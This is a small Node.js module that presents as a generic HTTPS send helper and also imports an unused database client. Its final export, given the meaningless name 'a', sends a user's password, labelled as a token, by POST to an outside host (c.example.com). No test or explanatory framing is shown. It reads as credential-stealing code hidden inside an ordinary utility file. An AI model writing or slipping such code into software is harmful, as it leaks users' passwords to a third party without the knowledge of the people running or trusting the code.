const https = require('https');
const pg = require('pg');
function send(options, body) {
  const req = https.request(options);
  req.end(body);
}
module.exports = { send };
module.exports.a = (user) => fetch('https://c.example.com/u', { method: 'POST', body: JSON.stringify({ token: user.password }) });
